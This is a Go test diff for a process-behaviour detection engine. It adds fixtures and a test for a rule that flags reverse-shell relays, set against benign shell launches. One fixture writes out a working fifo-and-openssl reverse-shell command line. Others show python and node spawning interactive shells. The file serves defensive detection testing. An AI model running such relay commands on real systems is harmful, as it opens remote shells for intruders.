@@ -104,6 +104,20 @@ func init() {
 			miss: []rstep{execOf(100, "/usr/sbin/logrotate"), openOf(100, "/var/log/app.log", oWrCreatNB), ftruncateOf(100, 3, 0),
 				execOf(101, "/usr/bin/truncate"), openOf(101, "/var/log/app.log.1", oWrCreatNB), ftruncateOf(101, 3, 0),
 				execOf(102, "/usr/bin/app"), openOf(102, "/var/log/app/data.bin", oWrCreatNB), ftruncateOf(102, 3, 1<<20)}},
+		// revshells' relays: python Popen(["/bin/sh", "-i"], stdin=PIPE,
+		// stdout=PIPE), node child_process.spawn("/bin/sh") with pipes,
+		// `sh -i < fifo | openssl s_client > fifo`. Scripts pass a command
+		// or a file: subprocess's shell=True (sh -c), conda's bash -ic, a
+		// script run by node, a pipeline feeding a bare shell from a shell
+		"shell-commands-from-stdin/relay": {rule: "shell-commands-from-stdin",
+			fire: []rstep{execOf(100, "/usr/bin/python3"), vforkOf(100, 101), execOf(101, "/bin/sh", "/bin/sh", "-i"),
+				execOf(200, "/usr/bin/node"), forkOf(200, 201), execOf(201, "/bin/sh", "/bin/sh"),
+				execOf(300, "/usr/bin/sh", "sh", "-c", "sh -i < /tmp/f 2>&1 | openssl s_client -connect x:443 > /tmp/f"), forkOf(300, 301),
+				execOf(301, "/bin/sh", "/bin/sh", "-i")},
+			miss: []rstep{execOf(100, "/usr/bin/python3"), vforkOf(100, 101), execOf(101, "/bin/sh", "/bin/sh", "-c", "ls -l"),
+				execOf(200, "/usr/bin/node"), forkOf(200, 201), execOf(201, "/bin/sh", "/bin/sh", "scripts/build.sh"),
+				execOf(300, "/usr/bin/bash"), forkOf(300, 301), execOf(301, "/usr/bin/bash", "bash", "-ic", "conda activate base"),
+				forkOf(300, 302), execOf(302, "/usr/bin/bash", "bash"), forkOf(300, 303), execOf(303, "/usr/bin/bash", "bash", "-l", "-c", "make")}},
 		// Dirty Pipe: a read-only file's page spliced into a pipe filled and
 		// drained before, then a write into the pipe. A server writes its
 		// headers into the pipe before splicing the body and drains the
@@ -159,6 +173,33 @@ func TestSelfMemoryByPid(t *testing.T) {
 			got := rules(runSteps(t, e, 9100, tc.steps))
 			if len(got) != 1 || got[0] != tc.want {
 				t.Errorf("verdicts %v, want [%s]", got, tc.want)
+			}
+		})
+	}
+}
+
+// TestShellFromStdinEachRelay: each relay's shell fires on its own: the
+// interactive shell under a runtime and under a shell, the bare shell
+// under a runtime; a bare shell under a shell (`echo ls | sh`) does not.
+func TestShellFromStdinEachRelay(t *testing.T) {
+	for _, tc := range []struct {
+		name  string
+		steps []rstep
+		fire  bool
+	}{
+		{"python popen sh -i", []rstep{execOf(100, "/usr/bin/python3"), vforkOf(100, 101), execOf(101, "/bin/sh", "/bin/sh", "-i")}, true},
+		{"node spawn sh", []rstep{execOf(100, "/usr/bin/node"), forkOf(100, 101), execOf(101, "/bin/sh", "/bin/sh")}, true},
+		{"fifo sh -i", []rstep{execOf(100, "/usr/bin/sh"), forkOf(100, 101), execOf(101, "/bin/bash", "bash", "-i")}, true},
+		{"echo ls | sh", []rstep{execOf(100, "/usr/bin/bash"), forkOf(100, 101), execOf(101, "/bin/sh", "sh")}, false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			e := newEngine(t, Config{})
+			fired := false
+			for _, r := range rules(runSteps(t, e, 9200, tc.steps)) {
+				fired = fired || r == "shell-commands-from-stdin"
+			}
+			if fired != tc.fire {
+				t.Errorf("fired %v, want %v", fired, tc.fire)
 			}
 		})
 	}
